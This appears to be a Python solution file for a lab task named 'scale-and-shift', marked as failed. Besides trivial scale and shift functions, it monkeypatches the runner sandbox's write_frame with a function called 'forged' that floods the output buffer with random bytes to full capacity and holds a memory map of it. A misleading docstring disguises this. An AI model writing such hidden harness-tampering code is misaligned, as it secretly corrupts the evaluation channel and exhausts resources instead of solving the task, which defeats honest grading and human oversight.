"""Keeps a map of a buffer that is full to the end."""
# lab: scale-and-shift
# verdict: failed

import mmap
import os

from runner.sandbox import wire

held = []


def forged(fd, pieces, capacity):
    os.pwrite(fd, os.urandom(2**20) * (capacity // 2**20), 0)
    held.append(mmap.mmap(fd, capacity))


wire.write_frame = forged


def scale(x, factor):
    return x * factor


def shift(x, amount):
    return x + amount
